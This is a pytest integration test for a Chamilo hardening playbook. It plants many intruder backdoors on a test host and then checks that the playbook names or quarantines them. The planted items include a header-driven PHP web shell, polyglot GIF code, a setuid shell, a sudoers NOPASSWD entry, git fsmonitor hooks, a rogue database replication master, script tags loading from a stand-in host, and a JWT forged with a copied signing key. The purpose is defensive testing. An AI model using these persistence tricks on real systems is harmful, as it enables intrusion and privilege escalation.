"""What an intruder planted before harden is named or cannot run afterwards, and nothing else is called a break-in."""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path

import pytest

from tests.hosts.hardening import Playbook, changed, missing_from_the_portal
from tests.hosts.test_audit_data import audit, install
from tests.testbed import authority
from tests.testbed.app.selfcheck import PASSWORDS, Browser
from tests.testbed.hosts import Host

ROOT = "/var/www/chamilo"
ONLY = ("--tags", "https,permissions,monitoring")
MARKS = "/srv/marks"


def mark(name: str) -> str:
    return f"touch('{MARKS}/{name}');"


def php(name: str) -> str:
    return f"<?php {mark(name)}"


WEATHER = "<?php $h = array_change_key_case(getallheaders()); isset($h['x-f']) && call_user_func($h['x-f'], $h['x-a']);"
# What may run on for the portal's sake, and is named.
NAMED = {
    ".env.evil": "APP_CACHE_DIR=/var/tmp/.c\n",
    "bin/console": f"<?php {mark('console')} ?>",  # put before what is there
    "composer.json": '{"scripts": {"post-install-cmd": "id"}}',
    "config/bundles.php": "",
    "config/packages/evil.yaml": "services: {evil: {class: DateTime, factory: date_create}}\n",
    "config/preload.php": php("preload"),
    "config/routes.yaml": "",
    "public/main/template/default/layout/layout.tpl": "{php}system('id');{/php}",
    "src/CoreBundle/Controller/SecurityController.php": "",
    "templates/evil.html.twig": "{{ ['id']|filter('system') }}",
    "vendor/composer/autoload_files.php": "<?php return ['/tmp/x.php'];",
    "vendor/Twig/Environment.php": "",
}
# What cannot run any more.
QUARANTINED = {
    "public/.user.ini": f"auto_prepend_file={ROOT}/var/upload/prepended.txt\n",
    "public/build/.htaccess": "AddHandler application/x-httpd-php .gif\n",
    "public/build/picture.gif": f"GIF89a{php('gif')}",
    "public/build/page.phtml": php("phtml"),
    "public/main/inc/helper.inc": php("inc"),
    "public/main/lp/aicc_hacp2.php": php("later"),
    "public/plugin/BuyCourses/src/more.php": php("plugin"),
    "public/plugin/Weather/start.php": WEATHER,
}
# What the browsers of visitors run: seen by the package alone.
IN_BROWSERS = {
    "public/build/app.js": "fetch('//x.test')\n",
    "public/login2.html": "<script src=//x.test/a.js></script>\n",
    "public/sw.js": "fetch('//x.test')\n",
}
GIT = {
    ".git/config": f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch {MARKS}/fsmonitor; false\n",
    ".git/hooks/post-checkout": f"#!/bin/sh\ntouch {MARKS}/hook\n",
    ".git/HEAD": "ref: refs/heads/main\n",
}
CRON = f"* * * * * php {ROOT}/bin/console app:process-mail --env=evil\n"
# What lends rights, and what a program of the web user's runs: by hand of the intruder, or of a careless administrator.
ELSEWHERE = {
    "install -D -o www-data -m 6755 /bin/sh /var/tmp/.x/sh": "/var/tmp/.x/sh",
    "echo 'www-data ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/web": "www-data as ALL: NOPASSWD: ALL",
    "groupadd -f docker && usermod -aG docker www-data": "www-data in docker",
    "install -D -o www-data /etc/hostname /var/www/.config/ImageMagick/delegates.xml": "ImageMagick/delegates.xml",
    "install -D -o www-data /etc/hostname /etc/fail2ban/action.d/theirs.conf": "/etc/fail2ban/action.d/theirs.conf",
    "install -D -o www-data /etc/hostname /etc/supervisor/conf.d/theirs.conf": "/etc/supervisor/conf.d/theirs.conf",
    "install -o www-data -m 6755 /bin/sh /run/lock/.sh": "/run/lock/.sh",
    "install -o www-data /etc/hostname /var/www/.msmtprc": "/var/www/.msmtprc",
    "runuser -u www-data -- touch -d 2040-01-01 /var/lib/php/sessions/sess_ever": "sessions that never end",
}
# All of it has the time of the release again, as each file of the portal.
SET_BACK = {
    "config/packages/evil.yaml": "services: {evil: {class: DateTime, factory: date_create}}\n",
    "public/index.php": f"{mark('index')}\n",
    "public/main/auth/ws.php": php("ws"),
}
INNOCENT = {
    "public/plugin/Timetable/plugin.php": "<?php // ours",
    "public/plugin/Timetable/composer.json": "{}",
    "public/plugin/Timetable/src/page.php": "<?php // ours",
    "public/plugin/Timetable/view/page.tpl": "{$hours}",
    "public/plugin/Weather/plugin.php": "<?php // theirs, as in a plugin",
    "public/plugin/Weather/composer.json": "{}",
    "public/plugin/Weather/lang/english.php": "<?php // theirs",
}


# With the application's own account, as the sloppy host has it: each with the statement that removes it.
IN_THE_DATABASE = {
    "ALTER USER root@localhost IDENTIFIED VIA mysql_native_password USING PASSWORD('evil-1') OR unix_socket": (
        "ALTER USER 'root'@'localhost' IDENTIFIED VIA mysql_native_password USING 'invalid' OR unix_socket;"
    ),
    "ALTER USER 'mariadb.sys'@localhost IDENTIFIED VIA mysql_native_password USING PASSWORD('evil-1') ACCOUNT UNLOCK": (
        "ALTER USER 'mariadb.sys'@'localhost' ACCOUNT LOCK;"
    ),
    "CHANGE MASTER 'x' TO MASTER_HOST='192.0.2.66', MASTER_USER='x'; START SLAVE 'x'": "RESET SLAVE 'x' ALL;",
    "CREATE SERVER evil FOREIGN DATA WRAPPER mysql OPTIONS (HOST '192.0.2.66')": "DROP SERVER `evil`;",
    "SET GLOBAL init_connect = 'CALL x()'": "SET GLOBAL init_connect = '';",
    f"SET GLOBAL general_log_file = '{ROOT}/public/build/note.txt'": "SET GLOBAL general_log_file = DEFAULT;",
    "CREATE DATABASE hidden; CREATE EVENT hidden.again ON SCHEDULE EVERY 1 DAY DO GRANT ALL ON *.* TO x@localhost": (
        "DROP EVENT `hidden`.`again`;"
    ),
    "CREATE TRIGGER raise AFTER INSERT ON track_e_login FOR EACH ROW UPDATE user SET status = 1 WHERE username = 'x'": (
        "DROP TRIGGER `chamilo`.`raise`;"
    ),
}


# In the portal's own tables, each with what the audit names.
IN_THE_PORTAL = {
    "UPDATE settings SET selected_value = 'sendmail://default?command=/tmp/x' WHERE variable = 'mailer_dsn'": (
        "mail.mailer_dsn of portal 1 (the command /tmp/x)"
    ),
    "INSERT INTO settings (access_url, variable, category, selected_value, title, access_url_changeable) "
    "VALUES (1, 'header_extra_content', 'tracking', '<script src=//x.test/a.js></script>', 'Header', 0)": (
        "tracking.header_extra_content of portal 1 (<script in the page)"
    ),
    """UPDATE user SET roles = 'a:1:{i:0;s:16:"ROLE_SUPER_ADMIN";}' WHERE username = 'student09'""": "student09",
    # The application's own table of groups, which none of its pages shows: its roles are those of its members.
    "CREATE TABLE IF NOT EXISTS fos_group (id INT PRIMARY KEY, name VARCHAR(255), roles LONGTEXT);"
    "CREATE TABLE IF NOT EXISTS fos_user_user_group (user_id INT, group_id INT);"
    """INSERT INTO fos_group VALUES (77, 'Readers', 'a:1:{i:0;s:10:"ROLE_ADMIN";}');"""
    "INSERT INTO fos_user_user_group SELECT id, 77 FROM user WHERE username = 'student08'": "student08",
    """UPDATE user SET roles = 'a:1:{i:0;O:4:"Evil":0:{}}' WHERE username = 'student07'""": "user.roles (Evil)",
    "CREATE TABLE IF NOT EXISTS messenger_messages (id INT PRIMARY KEY, body LONGTEXT);"
    """INSERT INTO messenger_messages VALUES (1, 'O:5:"Evil2":0:{}')""": "messenger_messages.body (Evil2)",
    "CREATE TABLE IF NOT EXISTS page (id INT PRIMARY KEY, title TEXT, content LONGTEXT);"
    "INSERT INTO page VALUES (1, 'Start', '<img src=x onerror=x()>')": "page Start (<img src=x onerror=)",
}


class Kept:
    """What an intruder takes along: a copy of the key that signs tokens, and the session of an administrator."""

    def __init__(self, host: Host) -> None:
        self._host = host
        self.login = Browser(f"http://{host.domain}", host.address)
        assert self.login.login("admin", PASSWORDS["admin"]).status == 200
        host.run(f"cp {ROOT}/config/jwt/private.pem {MARKS}/key && cp {ROOT}/config/jwt/public.pem {MARKS}/half")
        parts = [json.dumps(part).encode() for part in ({"alg": "RS256"}, {"username": "admin", "exp": 2**31})]
        body = b".".join(base64.urlsafe_b64encode(part).rstrip(b"=") for part in parts).decode()
        sign = f"openssl dgst -sha256 -sign {MARKS}/key -passin pass:your_secret_passphrase"
        signature = host.run(f"{sign} | base64 -w0 | tr +/ -_ | tr -d =", data=body).stdout
        self._token = f"Bearer {body}.{signature}"
        sql = ";".join([*IN_THE_DATABASE, *IN_THE_PORTAL])
        host.run("mariadb -h127.0.0.1 -uchamilo -pchamilo-db-Password-1 chamilo", user="www-data", data=sql)

    def opens(self, scheme: str) -> set[str]:
        """Where it makes the intruder an administrator."""
        base, ca = f"{scheme}://{self._host.domain}", str(authority.certificate())
        users = Browser(base, self._host.address, ca).get("/api/users", Authorization=self._token)
        session = Browser(base, self._host.address, ca, cookies=dict(self.login.cookies)).get("/check-session")
        ways = {"token": users.status == 200, "session": b'"isAuthenticated":true' in session.body}
        return {name for name, open_ in ways.items() if open_}


def as_the_web_user(host: Host, path: str, text: str) -> None:
    """Append, or put before what is PHP's and has to go on."""
    directory = path.rpartition("/")[0] or "."
    host.run(f"cd {ROOT} && mkdir -p {directory} && cat >/tmp/new", user="www-data", data=text)
    if path in ("bin/console", "public/index.php"):
        host.run(f"cd {ROOT} && sed -i '1r /tmp/new' {path}", user="www-data")
    else:
        host.run(f"cd {ROOT} && cat /tmp/new >>{path}", user="www-data")
    host.run("rm -f /tmp/new", user="www-data")


def plant(host: Host) -> None:
    host.run(f"install -d -m 777 {MARKS}")
    for path, text in {**NAMED, **QUARANTINED, **GIT, **IN_BROWSERS}.items():
        as_the_web_user(host, path, text or ("\n# planted\n" if path.endswith("yaml") else "\n// planted\n"))
    host.run(f"cd {ROOT}/.git && chmod 755 hooks/post-checkout && mkdir -p objects refs", user="www-data")
    host.run(f"cd {ROOT}/public && ln -s ../../.env build/env.txt && ln -s ../.. img/all", user="www-data")
    as_the_web_user(host, "var/upload/prepended.txt", php("prepended"))
    host.run(f"cd {ROOT} && env APP_ENV=prod APP_DEBUG=0 php bin/console cache:warmup", user="www-data")
    host.run(f"cd {ROOT} && APP_DEBUG=0 php bin/console cache:warmup --env=evil", user="www-data")
    host.put("/srv/evil", mark("evil"))
    host.run("cd /var/tmp/.c/evil && for file in Container*/*Container.php; do cat /srv/evil >>$file; done")
    host.run(["crontab", "-u", "www-data", "-"], data=CRON)
    host.put("/srv/compiled", mark("compiled"))
    for command in ELSEWHERE:
        host.run(command)
    host.run(f"cd {ROOT}/var/cache/prod && for file in Container*/*Container.php; do cat /srv/compiled >>$file; done")
    # Theirs came at once, a year after the release; an administrator and a deploy user change files by hand.
    for path, text in INNOCENT.items():
        as_the_web_user(host, path, text)
    host.run("useradd --system deploy")
    host.run(f"cd {ROOT} && echo '{{# by hand #}}' >>templates/base.html.twig && touch config/settings_overrides.yaml")
    host.run(f"cd {ROOT} && chown deploy templates/*base* && chown root config/settings_overrides.yaml")
    host.run(f"cd {ROOT} && chmod 644 templates/*base* config/settings_overrides.yaml")


def ran(host: Host) -> set[str]:
    """What ran since it was asked last, with everything tried."""
    host.run(f"rm -f {MARKS}/*")
    scheme = "https" if host.run("ss -Hltn 'sport = :443'").stdout else "http"
    for path in ("/main/auth/lostPassword.php", "/build/picture.gif", "/build/page.phtml", "/login"):
        host.http(f"{scheme}://{host.domain}{path}")
    shell = {"x-f": "touch", "x-a": f"{MARKS}/weather"}
    host.http(f"{scheme}://{host.domain}/plugin/Weather/start.php", headers=shell)
    host.run(f"cd {ROOT} && runuser -u www-data -- env APP_DEBUG=0 php bin/console list --env=evil", check=False)
    for path in QUARANTINED:
        if not path.endswith((".htaccess", ".ini")):
            host.run(f"runuser -u www-data -- php {ROOT}/{path}", check=False)
    host.run(f"cd {ROOT} && runuser -u www-data -- php bin/console list", check=False)
    host.run(f"cd {ROOT} && command -v git >/dev/null && git status", check=False)
    return set(host.run(f"ls {MARKS}").stdout.split())


def package(host: Host, directory: Path) -> str:
    """The package of the release, on the controller."""
    packed = host.run("cd /var/www && tar -cz --exclude=chamilo/var --exclude=chamilo/.env chamilo | base64").stdout
    path = directory / "chamilo-2.0.1.tar.gz"
    path.write_bytes(base64.b64decode(packed))
    return str(path)


def age(host: Host) -> None:
    """An intruder sets the date of each file back to that of the release."""
    host.run(f"cd {ROOT} && touch -r src/Kernel.php {' '.join([*NAMED, *QUARANTINED, *IN_BROWSERS])}", user="www-data")


@pytest.mark.wire
def test_what_an_intruder_planted_is_named_or_cannot_run_and_nothing_else_is(
    fresh: Host, playbook: Playbook, tmp_path: Path
) -> None:
    """On one web server by what can be seen of the files, on the other by the package of the release."""
    by_package = fresh.web == "apache"
    options = {"chamilo_release_archive": package(fresh, tmp_path)} if by_package else {}
    plant(fresh)
    kept = Kept(fresh)
    assert kept.opens("http") == {"token", "session"}
    install(fresh)
    fresh.run("apt-get -qq update && apt-get -qq -y --no-install-recommends install git")
    before = audit(fresh, "monitoring").evidence["monitoring_compromise"]
    named = [*NAMED, *QUARANTINED, "core.fsmonitor", "hooks/post-checkout"]
    assert [path for path in named if path not in before] == []
    assert ran(fresh) >= {"console", "evil", "gif", "inc", "later", "phtml", "plugin", "weather"}
    if by_package:
        age(fresh)
    output = playbook.run("harden", fresh, *ONLY, **options).output
    held = {"gif", "inc", "later", "phtml", "plugin", "prepended", "compiled", "fsmonitor", "hook", "weather"}
    assert not ran(fresh) & held
    assert fresh.run(f"grep -rl marks/compiled {ROOT}/var/cache", check=False).stdout == ""
    assert missing_from_the_portal(fresh, "https") == []
    assert kept.opens("https") == set()
    words = " ".join(output.split())
    assert "Tokens that were given out are refused" in words and "all users log in once more" in words
    # Git refuses to work as root in what is another user's, and others cannot read it.
    assert fresh.run(["stat", "-c", "%U %a", f"{ROOT}/.git"]).stdout == "www-data 700\n"
    found = audit(fresh, "monitoring", "database", "permissions")
    for statement in IN_THE_DATABASE.values():
        assert statement in found.evidence["database_privileges"]
    assert found.status["permissions_secrets"] == "pass", found.evidence["permissions_secrets"]
    links = found.evidence["permissions_links"].partition("secrets of the program")[2]
    assert "public/build/env.txt" in links and "public/img/all" in links
    assert found.status["monitoring_compromise"] == found.status["monitoring_integrity"] == "fail"
    evidence = found.evidence["monitoring_compromise"]
    assert [words for words in (*IN_THE_PORTAL.values(), *ELSEWHERE.values()) if words not in evidence] == []
    listed = fresh.run(["chamilo-hardening", "integrity", "check"], check=False).stdout
    for path in [*NAMED, *(IN_BROWSERS if by_package else ())]:
        assert f"nothing vouches for: {path}" in listed and path in evidence, path
    for path in QUARANTINED:
        assert path in listed and path in evidence, path
    assert "core.fsmonitor" in evidence and "hooks/post-checkout" in evidence and "core.fsmonitor" in output
    rests = "the package release-campus_test.archive (sha256 " if by_package else "owners, modes and times"
    assert f"the first list was based on {rests}" in listed
    assert ".env.evil (APP_CACHE_DIR)" in evidence and "app:process-mail --env=evil" in evidence
    # A plugin with its own history, and what others than the web user changed by hand.
    for text in (output, evidence, listed.replace("no part of the release: public/plugin/Timetable (www-data, ", "")):
        assert not re.search(r"Timetable|base\.html|settings_overrides", text)
    assert listed.count("no part of the release: public/plugin/") == 2
    assert changed(playbook.run("harden", fresh, *ONLY, **options).output) == set()
    # Later all of the compiled code is exchanged at one moment, so that no time shows it.
    daily = ["chamilo-hardening", "daily", "monitoring"]
    assert "compiled again" not in fresh.run(daily, check=False).stdout
    poison = "for file in new/Container*/*Container.php; do cat /srv/compiled >>$file; done"
    fresh.run(f"cd {ROOT}/var/cache/prod && install -D /etc/hostname pools/system/x.php", user="www-data")
    fresh.run(f"cd {ROOT}/var/cache && cp -a prod new && {poison} && rm -r prod && mv new prod", user="www-data")
    assert "compiled" in ran(fresh)
    assert "compiled again: var/cache/prod/Container" in fresh.run(daily, check=False).stdout
    assert "compiled" not in ran(fresh)
    assert fresh.run(["test", "-e", f"{ROOT}/var/cache/prod/pools/system/x.php"], check=False).returncode == 1
    assert "was compiled again since" in audit(fresh, "monitoring").evidence["monitoring_compromise"]
    # A person reviewed it: what runs on is accepted, what cannot run waits until it is removed or acknowledged.
    fresh.run(["chamilo-hardening", "integrity", "accept"])
    accepted = fresh.run(["chamilo-hardening", "integrity", "check"], check=False).stdout
    assert not any(f"for: {path}\n" in accepted for path in NAMED) and "picture.gif" in accepted
